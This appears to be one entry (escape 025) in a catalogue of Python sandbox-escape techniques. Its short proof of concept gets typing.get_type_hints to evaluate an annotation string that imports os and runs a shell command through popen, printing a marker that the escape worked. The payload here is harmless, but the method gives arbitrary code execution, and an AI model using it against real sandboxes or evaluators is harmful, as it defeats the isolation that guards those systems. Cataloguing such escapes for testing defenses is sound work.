# escape: 025
# technique: typing.get_type_hints evaluates annotation strings
# family: deval
# goal: exec
# first-seen: typing docs; CTF
import typing
def f(): pass
f.__annotations__ = {'a': "[print('ESCAPED:hints') for o in [__import__('os')] if o.popen('echo h').read() == 'h\\n'] and int"}
typing.get_type_hints(f)
